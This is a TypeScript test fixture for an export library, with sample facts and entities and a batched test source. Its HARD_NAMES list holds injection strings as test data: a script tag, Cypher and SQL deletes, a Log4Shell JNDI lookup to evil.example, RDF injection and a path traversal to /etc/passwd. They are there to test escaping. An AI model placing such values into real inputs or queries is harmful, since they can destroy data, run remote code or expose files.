import type { ExportedEntity, ExportedFact, ExportSource } from '../../export_format/types.ts'

/** Names that break formats which put texts together by hand. */
export const HARD_NAMES: readonly string[] = [
  'Zoë Ångström',
  'مرحبا بالعالم',
  'שלום',
  '東京都 · 渋谷区',
  'हिन्दी में नाम',
  'Ελληνικά – Русский',
  '👩‍👩‍👧‍👦 family 🇵🇹',
  'e\u0301 and é',
  `"double" 'single' \`back\` «angle»`,
  'back\\slash \\n \\u0027 \\U0001F600 \\x41 C:\\users\\u0041',
  `ends with a backslash \\`,
  'line one\nline two\r\nline three\ttab',
  '\u2028\u2029\u0085\u00a0\ufeff',
  '<script>alert(1)</script> & &amp; &#65; ]]> <!-- --> <?xml ?> <![CDATA[',
  '> <http://evil.example/> <http://evil.example/p> "x" .',
  '"@en . <http://evil.example/s> <http://evil.example/p> "',
  `'}) DETACH DELETE n //`,
  `'}] AS row MATCH (n) DETACH DELETE n; //`,
  '`]->() DETACH DELETE s //',
  '\\u0060]->() DETACH DELETE s //',
  '${jndi:ldap://evil.example/a} {{7*7}} %s %n',
  `'; DROP TABLE facts; --`,
  '@id',
  '@type',
  '@context',
  '__proto__',
  'constructor',
  'http://example.com/a b?c=d&e=f#g%20h',
  '%41%2F../../etc/passwd',
  'null',
  'true',
  '0012',
  ' ',
  '-',
  'x'.repeat(5_000),
  '東'.repeat(1_000),
]

/** Names that no text file holds as they are; formats may leave the characters out or replace them. */
export const BROKEN_NAMES: readonly string[] = [
  'nul \u0000 bell \u0007 escape \u001b delete \u007f',
  'lone \ud800 surrogate',
  'no character \ufffe \uffff',
]

const entity = (kind: string, name: string): ExportedEntity => ({
  kind,
  id: name.toWellFormed().toLowerCase(),
  name,
})

const RECORDED_AT = Date.UTC(2026, 4, 17, 9, 30, 15, 250)

/** A fact with everything that a test does not state. */
export function sampleFact(number: number, stated: Partial<ExportedFact> = {}): ExportedFact {
  return {
    id: `fact_${String(number).padStart(26, '0')}`,
    subject: entity('person', `Ana ${number}`),
    predicate: 'lives in',
    object: entity('place', 'Lisbon'),
    confidence: 0.75,
    personal: false,
    validFrom: null,
    validTo: null,
    recordedAt: RECORDED_AT + number,
    sources: [{ kind: 'chat', reference: `msg_${number}`, quote: 'I live in Lisbon.' }],
    ...stated,
  }
}

const factsAbout = (names: readonly string[]) =>
  names.map((name, index) =>
    sampleFact(1_000 + index, {
      subject: entity('topic', name),
      predicate: name,
      object: entity(index % 2 === 0 ? 'value' : 'thing', name),
      sources: [{ kind: 'import', reference: name, quote: name }],
    })
  )

/** Facts in which every text is hard to write. */
export const hardFacts = () => factsAbout(HARD_NAMES)

/** Facts with texts that cannot be written as they are. */
export const brokenFacts = () => factsAbout(BROKEN_NAMES)

/** Facts whose parts other than names differ. */
export const variedFacts = (): ExportedFact[] => [
  sampleFact(1),
  sampleFact(2, { personal: true, subject: { kind: 'asker', id: 'asker_1', name: 'me' } }),
  sampleFact(3, { confidence: 0, sources: [] }),
  sampleFact(4, { confidence: 1, validFrom: Date.UTC(2019, 0, 1) }),
  sampleFact(5, {
    confidence: 0.30000000000000004,
    validTo: Date.UTC(2024, 1, 29, 23, 59, 59, 999),
  }),
  sampleFact(6, {
    confidence: 1e-7,
    validFrom: Date.UTC(1969, 6, 20),
    validTo: Date.UTC(2030, 0, 1),
  }),
  /** The same ends twice, and an end that is both. */
  sampleFact(7, { predicate: 'works in' }),
  sampleFact(8, { subject: entity('place', 'Lisbon'), object: entity('place', 'Lisbon') }),
  sampleFact(9, {
    sources: [
      { kind: 'hand', reference: '', quote: null },
      { kind: 'chat', reference: 'msg_9', quote: 'She lives in Lisbon.' },
    ],
  }),
  /** The same name as another kind of thing. */
  sampleFact(10, { object: entity('value', 'Lisbon') }),
]

/** Ten thousand facts; made when they are asked for. */
export const MANY_FACTS = 10_000
export const manyFact = (number: number) =>
  sampleFact(number, {
    subject: entity('person', `Person ${number % 2_000}`),
    predicate: `predicate ${number % 3}`,
    object: entity('place', `Place ${number % 700}`),
  })

/** A graph of facts that are made on demand; tells what was pulled and whether everything was let go of. */
export class TestSource implements ExportSource {
  /** Facts that were handed out in all passes. */
  pulled = 0
  /** Iterations that have begun and not ended. */
  open = 0
  readonly #count: number
  readonly #factAt: (index: number) => ExportedFact
  readonly #batch: number

  constructor(count: number, factAt: (index: number) => ExportedFact, batch = 500) {
    this.#count = count
    this.#factAt = factAt
    this.#batch = batch
  }

  static of(facts: readonly ExportedFact[], batch = 500): TestSource {
    return new TestSource(facts.length, (index) => facts[index]!, batch)
  }

  async *facts(): AsyncGenerator<ExportedFact[]> {
    this.open++
    try {
      for (let start = 0; start < this.#count; start += this.#batch) {
        const length = Math.min(this.#batch, this.#count - start)
        this.pulled += length
        yield Array.from({ length }, (_, offset) => this.#factAt(start + offset))
      }
    } finally {
      this.open--
    }
  }

  async *entities(): AsyncGenerator<ExportedEntity[]> {
    this.open++
    const seen = new Set<string>()
    let batch: ExportedEntity[] = []
    try {
      for (let index = 0; index < this.#count; index++) {
        const { subject, object } = this.#factAt(index)
        for (const end of [subject, object]) {
          const key = JSON.stringify([end.kind, end.id])
          if (seen.has(key)) continue
          seen.add(key)
          batch.push(end)
        }
        if (batch.length < this.#batch) continue
        yield batch
        batch = []
      }
      if (batch.length > 0) yield batch
    } finally {
      this.open--
    }
  }
}
